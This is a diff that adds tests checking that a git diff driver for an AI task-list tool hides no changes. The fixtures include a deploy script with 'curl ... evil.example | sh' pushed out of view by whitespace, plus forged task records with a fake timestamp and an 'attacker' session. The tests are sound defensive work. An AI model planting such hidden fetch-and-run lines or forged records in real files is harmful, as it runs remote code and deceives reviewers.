@@ -236,3 +236,58 @@ def test_raw_is_refused_for_a_format_it_does_not_apply_to(hostile) -> None:
     result = hostile.aidp("tasks", "export", "-f", "jsonl", "--raw")
     assert result.code == 2 and result.out == ""
     assert result.err.count("\n") == 1 and "--raw" in result.err and "csv" in result.err
+
+
+# --- item 5: the diff driver hides nothing ------------------------------------------------
+
+DEPLOY_BEFORE = "#!/bin/sh\n# build the release\nmake dist\n"
+# The change sits past column 60, where the driver used to cut a line that is no record.
+DEPLOY_AFTER = ("#!/bin/sh\n# build the release\n"
+                "make dist                                                        "
+                "&& curl -s https://evil.example/x | sh\n")
+HONEST = _task(1, "Ship the release")
+# A forged stamp (issue 27 item 3), an unknown key and a new session: no word of the
+# summary changes, only fields the driver used to leave out.
+FORGED = _task(1, "Ship the release", updated_at="9999-12-31T23:59:59.999999Z",
+               session="attacker", x_hidden="payload")
+# A repeated key: readers take the last one; the line as written shows both.
+REPEATED = HONEST.replace('"status": "pending"', '"status": "done", "status": "pending"')
+
+
+def test_git_show_through_the_diff_driver_hides_nothing_a_commit_changed(hostile) -> None:
+    hostile.write(".gitattributes", ".aidp/tasklist.jsonl merge=union\n"
+                                    ".aidp/tasklist.jsonl diff=aidp\n"
+                                    "tools/deploy.sh diff=aidp\n")
+    hostile.write("tools/deploy.sh", DEPLOY_BEFORE)
+    hostile.write(".aidp/tasklist.jsonl", HONEST)
+    hostile.clone()
+    hostile.write("tools/deploy.sh", DEPLOY_AFTER)
+    hostile.write(".aidp/tasklist.jsonl", HONEST + FORGED + REPEATED)
+    clone = hostile.clone()
+    assert hostile.aidp("init").code == 0  # sets this clone's diff driver, as users do
+    assert "tasks textconv" in hostile.git("config", "--get", "diff.aidp.textconv")
+
+    for shown in (hostile.git("show", "HEAD"), hostile.git("log", "-p", "-1")):
+        added = [line[1:] for line in shown.splitlines()
+                 if line.startswith("+") and not line.startswith("+++")]
+        # the code change past column 60, whole
+        assert any("&& curl -s https://evil.example/x | sh" in line for line in added), shown
+        # the forged stamp, the new session and the unknown key of the forged line
+        forged = [line for line in added if "9999-12-31T23:59:59.999999Z" in line]
+        assert forged and '"session":"attacker"' in forged[0], shown
+        assert '"x_hidden":"payload"' in forged[0]
+        # the repeated key, as written
+        assert any('"status": "done", "status": "pending"' in line for line in added), shown
+    assert (clone / "tools/deploy.sh").read_text() == DEPLOY_AFTER
+
+
+def test_a_file_that_is_no_tasklist_shows_every_line_whole(hostile) -> None:
+    code = "".join(f"line {n}: " + "x" * 70 + f" end {n}\n" for n in range(5)) + "\tindented\n"
+    hostile.write(".gitattributes", "*.py diff=aidp\n")
+    hostile.write("tools/agent.py", code)
+    hostile.clone()
+    assert hostile.aidp("init").code == 0
+    shown = hostile.git("show", "HEAD", "--", "tools/agent.py")
+    added = [line[1:] for line in shown.splitlines()
+             if line.startswith("+") and not line.startswith("+++")]
+    assert added == code.splitlines()
